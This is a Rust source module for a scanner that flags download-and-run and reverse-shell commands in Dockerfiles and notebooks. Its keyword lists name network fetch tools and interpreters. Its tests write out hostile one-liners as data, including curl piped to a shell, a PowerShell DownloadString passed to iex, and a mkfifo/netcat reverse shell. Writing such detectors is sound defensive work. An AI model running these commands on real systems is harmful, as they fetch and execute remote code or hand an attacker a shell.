//! Commands for a shell, in Dockerfiles and notebooks: which run what they download or decode. By their words; nothing is run.

use std::collections::BTreeSet;

/// Programs that fetch or decode what others run.
const FETCH: &[&str] = &[
    "aria2c",
    "axel",
    "base32",
    "base64",
    "curl",
    "downloadstring",
    "fetch",
    "ftp",
    "invoke-webrequest",
    "iwr",
    "lynx",
    "nc",
    "ncat",
    "netcat",
    "openssl",
    "scp",
    "wget",
    "xxd",
];
/// Programs that run what they are fed, beside Python in all its versions.
const RUN: &[&str] = &[
    ".",
    "ash",
    "bash",
    "cmd",
    "csh",
    "dash",
    "eval",
    "fish",
    "iex",
    "ksh",
    "lua",
    "node",
    "perl",
    "php",
    "powershell",
    "pwsh",
    "ruby",
    "sh",
    "source",
    "tclsh",
    "zsh",
];
/// Words before a program.
const BEFORE: &[&str] = &[
    "!", "busybox", "command", "do", "doas", "else", "env", "exec", "nice", "nohup", "sudo", "then", "time",
    "toybox", "xargs", "{",
];
/// What code reaches other machines by, and what it runs the answer by; in small letters.
const REACHES: &[&str] = &[
    "://",
    "b64decode",
    "fetch(",
    "http.get",
    "https.get",
    "lwp",
    "net::http",
    "open-uri",
    "requests.",
    "socket",
    "urlopen",
];
const RUNS: &[&str] =
    &["__import__", "child_process", "compile(", "eval", "exec", "popen", "subprocess", "system", "spawn"];

/// Why commands run what they download or decode, if they do in one go, or give a connection a shell.
pub(super) fn at_once(text: &str) -> Option<String> {
    if let Some(connection) = connects(text) {
        return Some(connection.to_owned());
    }
    for command in commands(text) {
        let mut fetched = None;
        for stage in command.split('|') {
            let stage = stage.trim_start_matches('&'); // `|&`
            let from = words(stage).find(|word| is_of(FETCH, word));
            if let Some(program) = program(stage).filter(|program| runs(program)) {
                // `bash -c "$(curl …)"`, `bash <(curl …)`
                let within = ["$(", "`", "<("].iter().any(|mark| stage.contains(mark));
                if let Some(from) = fetched.or(from.filter(|_| within)) {
                    return Some(format!("`{program}` runs what `{from}` gives it"));
                }
            }
            fetched = fetched.or(from);
        }
    }
    let program = commands(text).flat_map(|command| command.split('|')).find_map(inline)?;
    let lower = text.to_ascii_lowercase();
    let has = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
    (has(REACHES) && has(RUNS)).then(|| format!("`{program}` is given code that runs what it fetches"))
}

/// What runs a file, where commands download some.
pub(super) fn later(text: &str) -> Option<&str> {
    if !text.contains("://") && !text.contains('$') {
        return None;
    }
    let mut files: Option<BTreeSet<&str>> = None;
    for command in commands(text) {
        let program = program(command).unwrap_or_default();
        if let Some(files) = &files {
            // Python's own modules are none, nor is what sets the variables of a shell.
            let runs_file = program.starts_with("python") && command.contains(".py")
                || is_of(RUN, program) && program.ends_with("sh")
                || program.starts_with("./")
                || program.starts_with("/tmp/")
                || files.contains(last_step(program))
                || program == "chmod" && makes_runnable(command, files);
            if runs_file {
                return Some(program);
            }
        }
        if matches!(program, "curl" | "wget" | "aria2c") {
            files.get_or_insert_default().extend(outputs(command));
        }
    }
    None
}

/// What runs a file that commands before it download, and where those stand. Each is given with its place.
pub(super) fn across<'t>(texts: &[(u64, &'t str)]) -> Option<(u64, &'t str)> {
    let mut files: BTreeSet<&str> = BTreeSet::new();
    for (at, text) in texts {
        for command in commands(text) {
            let program = program(command).unwrap_or_default();
            let is_given = || {
                let words =
                    command.split_whitespace().map(|word| word.trim_matches(['"', '\'', '[', ']', ',']));
                words.filter(|word| !word.is_empty()).any(|word| files.contains(last_step(word)))
            };
            let runs_file = files.contains(last_step(program))
                || runs(program) && is_given()
                || program == "chmod" && makes_runnable(command, &files);
            if runs_file {
                return Some((*at, program));
            }
            if matches!(program, "curl" | "wget" | "aria2c") {
                files.extend(outputs(command));
            }
        }
    }
    None
}

/// Commands as a shell takes their words together: `c""url` and `c\url` are `curl`.
pub(super) fn joined(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        let next = letters.peek().copied();
        match (letter, next) {
            ('"', Some('"')) | ('\'', Some('\'')) => {
                letters.next();
            }
            ('\\', Some(next)) if next.is_ascii_alphabetic() => {}
            _ => plain.push(letter),
        }
    }
    plain
}

/// Whether something is fetched or decoded, and something runs, wherever: what lies between may be files.
pub(super) fn fetches_and_runs(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let parts = || lower.split(['|', ';', '&', '\n']);
    let is_run = |part: &str| program(part).is_some_and(runs);
    let marked = ["chmod +x", "chmod 7", "&& ./", "; ./"].iter().any(|mark| lower.contains(mark));
    // `sh -c "$(echo …)"`
    let is_fed = |part: &str| matches!(program(part), Some("base64" | "curl" | "echo" | "wget"));
    let within = ["$(", "<(", "`"].iter().any(|mark| lower.split(mark).skip(1).any(is_fed));
    words(&lower).any(|word| is_of(FETCH, word))
        && (marked || parts().skip(1).any(is_run) || within && parts().any(is_run))
}

/// Why a connection gets a shell.
fn connects(text: &str) -> Option<&'static str> {
    if text.contains("/dev/tcp/") || text.contains("/dev/udp/") {
        return Some("a shell opens a connection by itself (`/dev/tcp`)");
    }
    let lower = text.to_ascii_lowercase();
    let has = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
    let gets_shell = has(&["nc ", "ncat ", "socat "]) && has(&[" -e", "/bin/sh", "/bin/bash", "exec:"])
        || has(&["mkfifo"]);
    gets_shell.then_some("a connection gets a shell")
}

/// A program that is given code in its own words: `python -c …`, `perl -e …`.
fn inline(command: &str) -> Option<&str> {
    let program = program(command).filter(|program| {
        program.starts_with("python") || matches!(*program, "lua" | "node" | "perl" | "php" | "ruby")
    })?;
    let is_given = |word: &str| {
        word.starts_with('-') && !word.starts_with("--") && word.ends_with(['c', 'e', 'r', 'p', 'E'])
    };
    command
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'', '[', ']', ',']))
        .any(is_given)
        .then_some(program)
}

/// The names of the files that a download is put into: those that are said, and that of its address.
fn outputs(command: &str) -> impl Iterator<Item = &str> {
    let mut is_next = false;
    command.split_whitespace().filter_map(move |word| {
        let word = word.trim_matches(['"', '\'', '[', ']', ',', '(', ')']);
        let is_said = std::mem::take(&mut is_next);
        let is_short = word.starts_with('-') && !word.starts_with("--");
        is_next = is_short && word.ends_with(['o', 'O'])
            || matches!(word, ">" | ">>" | "--output" | "--output-document" | "--out");
        let redirected = word.strip_prefix('>').map(|rest| rest.trim_start_matches('>'));
        let assigned = word.strip_prefix("--output-document=").or_else(|| word.strip_prefix("--output="));
        let address = word.contains("://").then(|| word.split(['?', '#']).next().unwrap_or_default());
        let file =
            if is_said && !word.starts_with('-') { Some(word) } else { redirected.or(assigned).or(address) };
        file.map(last_step).filter(|file| !file.is_empty())
    })
}

/// Whether `chmod` lets one of these files run.
fn makes_runnable(command: &str, files: &BTreeSet<&str>) -> bool {
    let lets = |word: &str| {
        word.contains("+x")
            || word.contains("+rx")
            || word.len() >= 3 && word.bytes().all(|byte| byte.is_ascii_digit())
    };
    let mut words = command.split_whitespace();
    words.clone().any(lets) && words.any(|word| files.contains(last_step(word)))
}

fn commands(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\n', ';']).flat_map(|line| line.split("&&")).flat_map(|line| line.split("||"))
}

fn runs(program: &str) -> bool {
    is_of(RUN, program) || program.starts_with("python")
}

fn is_of(list: &[&str], word: &str) -> bool {
    list.iter().any(|known| word.eq_ignore_ascii_case(known))
}

/// The program of a command, without its folder unless that is its own or a temporary one.
fn program(command: &str) -> Option<&str> {
    let words = command
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'', '[', ']', ',', '(', ')', '{', '}', '`']));
    let mut words = words.filter(|word| !word.is_empty() && !word.starts_with('-'));
    let program = words.find(|word| {
        let is_variable = word
            .split_once('=')
            .is_some_and(|(name, _)| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
        !is_variable && !BEFORE.contains(&last_step(word))
    })?;
    if program.starts_with("./") || program.starts_with("/tmp/") {
        Some(program)
    } else {
        Some(last_step(program))
    }
}

/// The words of a command as programs are named.
fn words(command: &str) -> impl Iterator<Item = &str> {
    let parts = command.split(|c: char| !(c.is_alphanumeric() || matches!(c, '-' | '_' | '.' | '+')));
    parts.map(|word| word.trim_matches('.')).filter(|word| !word.is_empty())
}

fn last_step(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_is_fetched_and_run_in_one_go_is_told() {
        for text in [
            "curl x |& sh",
            "curl x | tee log | sudo -E bash -",
            "wget -O- https://a/x | A=1 python3.11",
            "python -c \"import os; exec(urlopen('http://x').read())\"",
            "perl -e 'use LWP::Simple; system(get(1))'",
            "powershell iex (New-Object Net.WebClient).DownloadString('x') | iex",
            "mkfifo /tmp/f; nc 1.2.3.4 9 < /tmp/f | sh",
        ] {
            assert!(at_once(text).is_some(), "{text}");
        }
        for text in [
            "apt-get install -y curl && echo y | bash setup.sh",
            "cat curl.txt | sh",
            "python -c \"import nltk; nltk.download('punkt')\"",
            "pip install --index-url https://download.pytorch.org/whl/cpu torch | tee log",
        ] {
            assert_eq!(at_once(text), None, "{text}");
        }
    }

    #[test]
    fn what_is_fetched_first_and_run_then_is_told() {
        for (text, by) in [
            ("curl https://a/x > /y && chmod +x /y && /y", "chmod"),
            ("curl -so /usr/local/bin/x https://a/z && x", "x"),
            ("wget https://a/setup.sh?v=1; setup.sh", "setup.sh"),
            ("wget https://a/x.sh; sh x.sh", "sh"),
            ("curl --output=/opt/t https://a/z && /opt/t", "t"),
        ] {
            assert_eq!(later(text), Some(by), "{text}");
        }
        for text in [
            "curl -o w.pt https://a/w.pt && python -m serve",
            "curl https://a/x -o y && chmod +x start",
            "sh x.sh && curl https://a",
        ] {
            assert_eq!(later(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn any_commands_end(text in "(curl|sh|\\|&?|&&|>|-o|python -c|chmod \\+x|://|\"|\\$\\(|\\n| |\\PC){0,60}") {
            let _told = (at_once(&text), later(&text), fetches_and_runs(&text));
        }
    }
}
